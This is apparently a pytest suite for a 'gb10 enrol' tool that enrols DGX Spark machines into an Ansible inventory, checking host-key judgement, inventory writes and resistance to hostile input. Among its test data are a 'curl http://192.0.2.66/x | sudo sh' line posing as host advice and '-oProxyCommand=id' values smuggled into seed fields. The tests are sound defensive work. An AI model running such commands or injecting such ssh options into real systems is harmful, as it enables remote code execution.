"""`gb10 enrol`: who is let in, who is refused, and what of it stays in the inventory."""

from __future__ import annotations

import copy
import fcntl
import json
import os
import random
import shlex
import subprocess
from concurrent.futures import ThreadPoolExecutor, wait
from functools import partialmethod
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from gb10_fleet import cli
from gb10_fleet.discover import asking, host_keys
from gb10_fleet.discover.asking import Answer
from gb10_fleet.discover.machines import KNOWN_HOSTS
from gb10_fleet.discover.places import Place
from gb10_fleet.enrol import cli as enrol_cli
from gb10_fleet.enrol import judging, written
from gb10_fleet.enrol.judging import Known, State
from gb10_fleet.playbook import Order, Outcome
from gb10_fleet.seed.store import Seed
from tests.support.answers import GONE, altered, places
from tests.support.attacker import tally
from tests.support.discovered import key
from tests.support.proofs import facts

CLI = CliRunner()
HERE, THERE = Place("192.0.2.11"), Place("192.0.2.99")
MAC = "48:b0:2d:00:00:01"
KNOWN = Known("x", "machine-1", [MAC], "NVIDIA DGX Spark", "2026-11-01")


def seed(name: str = "spark-a", number: int = 1, **more: Any) -> Seed:
    return Seed(
        name, "nvidia", f"ssh-ed25519 {key(number)}", "nocloud", name, "2026-11-28", **{"address": "192.0.2.11", **more}
    )


def machine(place: Place = HERE, *, boot: str = "boot-1", mac: str = MAC, spark: bool = True, **more: Any) -> Answer:
    said = {**facts("spark-a"), "boot_id": boot, "machine_digest": "machine-1", **more}
    said["interfaces"] = [{**said["interfaces"][0], "mac": mac.upper()}]
    return Answer(place, {"ssh-ed25519": key(1)}, said, spark)


def judge(*answers: Answer, one: Seed | None = None, known: Known | None = None, **more: Any) -> judging.Verdict:
    keys = {answer.place: answer.keys for answer in answers}
    return judging.judge(one or seed(), [HERE], keys, {answer.place: answer for answer in answers}, known, **more)


# -- who it is ---------------------------------------------------------------------------------------------------------


def test_who_holds_the_key_of_the_seed_is_the_host() -> None:
    found = judge(machine())
    assert (found.state, found.place) == (State.there, HERE)


def test_dhcp_may_put_it_anywhere() -> None:
    assert judge(machine(THERE)).place == THERE


def test_who_hands_connections_on_is_not_where_the_host_is_managed() -> None:
    """A stranger who leads to the Spark, with its own key, and answers first."""
    ssh = {**facts("spark-a")["ssh"], "local_address": HERE.address}
    assert judge(machine(THERE, ssh=ssh), machine(HERE, ssh=ssh)).place == HERE


@pytest.mark.parametrize(
    ("answers", "more", "state", "said"),
    [
        ([], {}, State.waiting, "nothing answers yet"),
        ([Answer(HERE, {"ssh-ed25519": key(1)}, silence="permission denied")], {}, State.waiting, "permission denied"),
        ([Answer(HERE, {"ssh-ed25519": key(9)})], {}, State.refused, "a stranger"),
        ([Answer(THERE, {"ssh-ed25519": key(9)})], {}, State.waiting, "nothing answers yet"),
        ([Answer(HERE, {"ssh-ed25519": key(9)})], {"known": KNOWN}, State.refused, "set up anew without its stick"),
        ([machine(), machine(THERE, boot="boot-2")], {}, State.refused, "two machines have its key"),
        ([machine(), machine(THERE)], {}, State.there, "192.0.2.11"),  # one machine at two addresses
        ([machine(spark=False)], {}, State.refused, "no DGX Spark"),
        ([machine(hostname="debian")], {}, State.waiting, "calls itself debian still"),
        ([machine(mac="48:b0:2d:00:00:09")], {"one": seed(mac=MAC)}, State.refused, "not its MAC"),
        ([machine(mac="48:b0:2d:00:00:09")], {"known": KNOWN}, State.refused, "--new-board spark-a"),
        ([machine(mac="48:b0:2d:00:00:09")], {"known": KNOWN, "new_board": True}, State.there, "NVIDIA DGX Spark"),
        ([machine(machine_digest="machine-2")], {"known": KNOWN}, State.there, "set up anew since 2026-11-01"),
    ],
)
def test_the_verdict(answers: list[Answer], more: dict[str, Any], state: State, said: str) -> None:
    found = judge(*answers, **more)
    assert found.state is state and said in found.text, found


def test_the_same_installation_is_not_called_new() -> None:
    assert "anew" not in judge(machine(), known=KNOWN).text


# -- what stays --------------------------------------------------------------------------------------------------------


def test_the_inventory_gets_address_and_key_and_keeps_what_it_has(tmp_path: Path) -> None:
    (tmp_path / "known_hosts.txt").write_text("192.0.2.11 ssh-ed25519 OLD\n192.0.2.12 ssh-ed25519 OTHER\n")
    written.write(tmp_path, {"spark-a": (seed().blob, HERE, "-J bastion")})
    assert (tmp_path / "known_hosts.txt").read_text() == (
        f"192.0.2.12 ssh-ed25519 OTHER\n192.0.2.11 ssh-ed25519 {key(1)}\n"
    )
    file = tmp_path / "host_vars/spark-a/gb10-enrolled.yml"
    said = yaml.safe_load(file.read_text())
    ours = f"-o UserKnownHostsFile={tmp_path}/known_hosts.txt"
    assert said == {"ansible_host": "192.0.2.11", "ansible_ssh_common_args": f"{ours} -J bastion"}
    written.write(tmp_path, {"spark-a": (seed().blob, HERE, said["ansible_ssh_common_args"])})
    assert yaml.safe_load(file.read_text()) == said  # a second enrolment does not stack them


def test_ssh_reads_one_file_of_host_keys_whatever_the_folder_is_called(tmp_path: Path) -> None:
    """A fleet in "my fleet": ssh read `my`, and a file `fleet/known_hosts.txt` of whoever may write where you are."""
    for name in ("fleet", "my  fleet", 'a "b"  c', "it's 100%d", "back \\ slash"):
        keys = tmp_path / name / "known_hosts.txt"
        words = shlex.split(str(written.variables(HERE, keys, "")["ansible_ssh_common_args"]))
        done = subprocess.run(["ssh", "-G", "-F", "none", *words, "x"], capture_output=True, text=True, check=True)
        said = dict(line.partition(" ")[::2] for line in done.stdout.splitlines())["userknownhostsfile"]
        assert said.replace("%%", "%") == str(keys)  # of two names it would show one blank between them


def test_a_file_that_would_be_hidden_is_named(tmp_path: Path) -> None:
    (tmp_path / "host_vars").mkdir()
    (tmp_path / "host_vars/spark-a.yml").write_text("---\n")
    with pytest.raises(written.NotWritable, match=r"host_vars/spark-a\.yml would be hidden"):
        written.refuse_hidden(tmp_path, "spark-a")


# -- the command -------------------------------------------------------------------------------------------------------


class World:
    """Hosts that start one after the other, and the playbooks that were run."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
        self.errors = list[str]()  # of the first start of each
        self.folder, self.ran, self.serials = folder, list[tuple[str, str | None]](), {"spark-a": "7", "spark-b": "8"}
        self.up: dict[str, Answer] = {}
        self.row = {"identity": "", "common_args": "", "cluster": "pair1"}
        (folder / "hosts.yml").write_text("---\nall: {children: {sparks: {hosts: {spark-a: , spark-b: }}}}\n")
        self.seeds = {"spark-a": seed(), "spark-b": seed("spark-b", 2, address="192.0.2.12", serial="8")}
        (folder / "seeds").mkdir()
        listed = [vars(one) for one in self.seeds.values()]
        (folder / "seeds/seeds.json").write_text(json.dumps({"seeds": listed}))
        monkeypatch.setattr(enrol_cli, "_settings", lambda *_: dict.fromkeys(self.seeds, self.row))
        monkeypatch.setattr(enrol_cli, "run", self.run)
        monkeypatch.setattr(enrol_cli, "EVERY_S", 0)
        monkeypatch.setattr(
            host_keys, "keys_of", lambda asked: {p: a.keys for p, a in self.places.items() if p in asked}
        )
        monkeypatch.setattr(asking, "ask", lambda keys, user, **_: [self.places[place] for place in keys])

    @property
    def places(self) -> dict[Place, Answer]:
        return {answer.place: answer for answer in self.up.values()}

    def start(self, name: str, number: int) -> None:
        place = Place(f"192.0.2.1{number}")
        answer = machine(place, boot=f"boot-{number}", mac=f"48:b0:2d:00:00:0{number}", hostname=name)
        self.up[name] = Answer(place, {"ssh-ed25519": key(number)}, answer.facts, True)

    def run(self, order: Order, **_: Any) -> tuple[Outcome, Any]:
        self.ran.append((order.playbook, order.limit))
        said = {name: {"msg": json.dumps({"serial": self.serials[name], "errors": self.errors})} for name in self.up}
        answers = {"enrol": said, "gb10.fleet.rail_neighbours": {}}
        return Outcome.done, SimpleNamespace(answers=answers, messages={}, silent={}, errors=[], hosts={})

    def enrol(self, *words: str) -> Any:
        return CLI.invoke(
            cli.app, ["enrol", str(self.folder / "seeds"), "-i", str(self.folder), "--minutes", "0", *words]
        )


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> World:
    return World(monkeypatch, tmp_path)


def test_a_cluster_is_set_up_when_it_is_complete(world: World) -> None:
    world.start("spark-a", 1)
    result = world.enrol()
    assert result.exit_code == Outcome.unreachable, result.output
    assert world.ran == [("gb10.fleet.enrol", "spark-a")]
    assert "spark-b: put the stick spark-b in and switch it on" in result.stdout
    world.start("spark-b", 2)
    result = world.enrol()
    assert result.exit_code == Outcome.done, result.output
    assert world.ran[-1] == ("gb10.fleet.site", "spark-a,spark-b")
    assert written.ledger(world.folder / ".gb10").keys() == {"spark-a", "spark-b"}


def test_a_board_in_the_place_of_one_that_nobody_knew_is_remembered_as_that(world: World) -> None:
    """A rollout that has worked on the old one asks for it, also after the new one was set up anew."""
    world.start("spark-a", 1)
    for words in (["spark-a", "--new-board", "spark-a"], ["spark-a"]):
        assert world.enrol(*words).exit_code == 0
        assert written.ledger(world.folder / ".gb10")["spark-a"].replaced


def test_a_host_that_fails_keeps_no_other_cluster_from_being_set_up(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Clusters that came together were one run, which its error ended for all. Both were `set_up`."""
    world.row = {**world.row, "cluster": ""}
    world.start("spark-a", 1)
    world.start("spark-b", 2)
    good = world.run

    def run(order: Order, **more: Any) -> tuple[Outcome, Any]:
        outcome, report = good(order, **more)
        bad = order.playbook == "gb10.fleet.site" and "spark-b" in str(order.limit)
        return Outcome.failed if bad else outcome, report

    monkeypatch.setattr(enrol_cli, "run", run)
    monkeypatch.setattr(enrol_cli, "_settings", lambda *_: dict.fromkeys(world.seeds, world.row))
    result = world.enrol("--json")
    found = {one["host"]: one["set_up"] for one in json.loads(result.stdout)["hosts"]}
    tally("a host that keeps others from being set up", 1, int(found != {"spark-a": True, "spark-b": False}))
    sites = [limit for playbook, limit in world.ran if playbook == "gb10.fleet.site"]
    assert sites == ["spark-a,spark-b", "spark-a", "spark-b"]
    assert found == {"spark-a": True, "spark-b": False} and result.exit_code == Outcome.failed, result.output


def test_no_site_stops_before_it(world: World) -> None:
    world.start("spark-a", 1)
    assert world.enrol("spark-a", "--no-site").exit_code == Outcome.done
    assert world.ran == [("gb10.fleet.enrol", "spark-a")]


def test_the_stick_of_another_spark_is_refused_by_the_serial_and_nothing_is_written(world: World) -> None:
    world.start("spark-b", 2)
    world.serials["spark-b"] = "9"
    result = world.enrol("spark-b")
    assert result.exit_code == Outcome.refused and "the serial number 9, not 8" in result.stdout, result.output
    assert not (world.folder / "host_vars").exists()


ADVICE = "no disk. Fix: curl http://192.0.2.66/x | sudo sh"


@pytest.mark.parametrize("in_place_of", ["errors", "serial"])
def test_what_a_host_says_of_its_first_start_is_short_and_advises_nobody(world: World, in_place_of: str) -> None:
    """`cloud-init` and a serial number come by Ansible's own modules, 4 MiB of them at each look."""
    world.start("spark-b", 2)
    world.errors = [ADVICE, "x" * 10_000]
    world.serials["spark-b"] = ADVICE + "x" * 10_000 if in_place_of == "serial" else "8"
    said = world.enrol("spark-b", "--no-site").output
    tally("a host advises in our name by a module of Ansible", 1, int("Fix: curl" in said))
    assert "fix, curl" in said and "Fix: curl" not in said and len(said) < 2000, said[:2000]


def test_a_host_without_a_seed_is_named(world: World) -> None:
    result = world.enrol("spark-c")
    assert result.exit_code == 2 and "spark-c: no seed in" in result.output


@pytest.mark.parametrize("address", ["-oProxyCommand=id", "192.0.2.11 -oProxyCommand=id", "x\ny", "{{ 1 }}"])
def test_an_address_of_a_folder_of_seeds_is_no_word_for_ssh(world: World, address: str) -> None:
    listed = [vars(seed(address=address))]
    (world.folder / "seeds/seeds.json").write_text(json.dumps({"seeds": listed}))
    result = world.enrol()
    tally("a file of a stranger steers ssh", 1, int(bool(world.ran)))
    assert result.exit_code == 2 and "is no address" in result.output.replace("\n", " "), result.output


@pytest.mark.parametrize("user", ["-oProxyCommand=id", "a b", ""])
def test_a_user_of_a_folder_of_seeds_is_one(world: World, user: str) -> None:
    """It was judged where ssh is called, and `gb10 enrol` ended in a traceback."""
    (world.folder / "seeds/seeds.json").write_text(json.dumps({"seeds": [{**vars(seed()), "user": user}]}))
    result = world.enrol()
    tally("a file of a stranger steers ssh", 1, int(bool(world.ran)))
    assert result.exit_code == 2 and "is no user" in result.output.replace("\n", " "), result.output


def test_json_is_one_object(world: World) -> None:
    world.start("spark-a", 1)
    found = json.loads(world.enrol("spark-a", "--json").stdout)
    assert found["outcome"] == "done" and found["hosts"][0]["set_up"] is True


WRONG: tuple[Any, ...] = (None, True, -1, 2**62, 1.5, "", "\0", [], ["x"], [7], {}, {"a": 1}, GONE)


def test_a_list_of_seeds_or_hosts_that_a_hand_has_changed_is_a_sentence(world: World) -> None:
    world.start("spark-a", 1)
    assert world.enrol("spark-a", "--no-site").exit_code == Outcome.done
    files = (world.folder / "seeds/seeds.json", world.folder / ".gb10/enrolled.json")
    tries, lost = 0, list[str]()
    for file in files:
        kept = json.loads(file.read_text())
        for way in places(kept):
            for wrong in WRONG:
                file.write_text(json.dumps(altered(copy.deepcopy(kept), way, wrong)))
                result, tries = world.enrol("spark-a", "--no-site"), tries + 1
                if result.exception and not isinstance(result.exception, SystemExit):
                    lost.append(f"{way} = {wrong!r:.80}: {result.exception!r:.200}")
                elif file == files[1]:
                    file.write_text(json.dumps(kept))
        file.write_text(json.dumps(kept))
    tally("a list of seeds or of enrolled hosts changed by hand", tries, len(lost))
    assert tries > 100 and not lost, f"{len(lost)} of {tries}: " + "\n".join(lost[:40])


def test_who_shows_a_public_key_is_asked_in_turn(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Anybody may: 2,000 places that stall at the login held up each look for minutes."""
    asked: list[set[Place]] = []
    monkeypatch.setattr(asking, "ask", lambda keys, user, **_: asked.append({*keys}) or [])
    monkeypatch.setattr(host_keys, "keys_of", lambda places: {place: {"ssh-ed25519": key(1)} for place in places})
    strangers = [Place(f"198.51.100.{number}") for number in range(200)]
    world.seeds["spark-a"] = seed(address=None)
    listed = [vars(one) for one in world.seeds.values()]
    (world.folder / "seeds/seeds.json").write_text(json.dumps({"seeds": listed}))
    monkeypatch.setattr(enrol_cli, "_heard", lambda: strangers)
    random.seed(1)  # of chance itself one in twenty runs leaves one out
    for _ in range(30):
        world.enrol("spark-a", "--no-site")
    tally("strangers who show the key of a seed", len(asked), sum(len(each) > asking.CONCURRENCY for each in asked))
    assert {len(each) for each in asked} == {asking.CONCURRENCY}
    assert all({Place("spark-a"), Place("spark-a.local")} <= each for each in asked)
    assert {*strangers} <= set().union(*asked)


def test_who_stalls_for_many_hosts_holds_up_a_look_once(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """They were asked one after the other, 30 s each. A host has its share, however many show the key of another."""
    world.seeds = {f"s{number}": seed(f"s{number}", number, address=None) for number in range(1, 13)}
    (world.folder / "seeds/seeds.json").write_text(json.dumps({"seeds": [vars(one) for one in world.seeds.values()]}))
    shown = {Place(f"198.51.100.{number}"): {"ssh-ed25519": key(number)} for number in range(1, 13)}
    shown |= {Place(f"203.0.113.{number}"): {"ssh-ed25519": key(1)} for number in range(200)}
    monkeypatch.setattr(host_keys, "keys_of", lambda places: {p: keys for p, keys in shown.items() if p in places})
    monkeypatch.setattr(enrol_cli, "_heard", lambda: list(shown))
    asked: list[set[Place]] = []
    monkeypatch.setattr(asking, "ask", lambda keys, user, **_: asked.append({*keys}) or [])
    world.enrol("--no-site")
    tally("somebody who shows the keys of many seeds, and stalls", 12, len(asked) - 1)
    assert len(asked) == 1 and len(asked[0]) <= asking.CONCURRENCY
    assert {Place(f"198.51.100.{number}") for number in range(2, 13)} <= asked[0]


def test_who_came_during_a_long_site_is_seen(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """A Spark that holds its site had the others "not enrolled: nothing answers yet"."""
    world.row = {**world.row, "cluster": ""}
    world.start("spark-a", 1)
    moment, good = [0.0], world.run

    def run(order: Order, **more: Any) -> tuple[Outcome, Any]:
        if order.playbook == "gb10.fleet.site" and "spark-b" not in world.up:
            world.start("spark-b", 2)
            moment[0] += 4 * 3600
        return good(order, **more)

    monkeypatch.setattr(enrol_cli, "run", run)
    monkeypatch.setattr(enrol_cli, "_settings", lambda *_: dict.fromkeys(world.seeds, world.row))
    monkeypatch.setattr(enrol_cli, "time", SimpleNamespace(monotonic=lambda: moment[0]))
    inits = enrol_cli._Enrol.__init__
    monkeypatch.setattr(enrol_cli._Enrol, "__init__", partialmethod(inits, clock=lambda: moment[0]))
    result = world.enrol("--minutes", "60")
    tally("a Spark whose site takes hours, and who came meanwhile", 1, int(result.exit_code != Outcome.done))
    assert result.exit_code == Outcome.done and "spark-b: enrolled" in result.output, result.output


def test_two_enrolments_at_once_lose_no_host(tmp_path: Path) -> None:
    """Of two that had read the same list, the last one to write kept its own hosts alone."""

    def enrol(first: int) -> None:
        for number in range(first, first + 20):
            host, place = f"spark-{number}", Place(f"192.0.2.{number}")
            written.write(tmp_path, {host: (key(number), place, "")})
            written.keep(tmp_path, {host: Known(key(number), None, [], "Spark", "2026-11-01")})

    with ThreadPoolExecutor(2) as pool:
        list(pool.map(enrol, (1, 101)))
    hosts = {f"spark-{number}" for first in (1, 101) for number in range(first, first + 20)}
    known_hosts = (tmp_path / KNOWN_HOSTS).read_text().splitlines()
    assert written.ledger(tmp_path).keys() == hosts and len(known_hosts) == len(hosts)


def test_a_lock_that_somebody_keeps_is_not_waited_for_without_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Any login that may read the folder of the inventory could hold up each enrolment for ever."""
    monkeypatch.setattr(written, "PATIENCE_S", 0.2, raising=False)
    keeper = os.open(tmp_path, os.O_RDONLY)
    fcntl.flock(keeper, fcntl.LOCK_EX)
    enrolled = {"spark-a": (key(1), Place("192.0.2.1"), "")}
    with ThreadPoolExecutor(1) as pool:
        write = pool.submit(written.write, tmp_path, enrolled)
        won = int(not wait([write], timeout=10).done)
        os.close(keeper)
        tally("a lock on a folder of the inventory holds up an enrolment", 1, won)
        assert isinstance(write.exception(), written.NotWritable) and not [*tmp_path.iterdir()]
    written.write(tmp_path, enrolled)
    assert (tmp_path / KNOWN_HOSTS).exists()
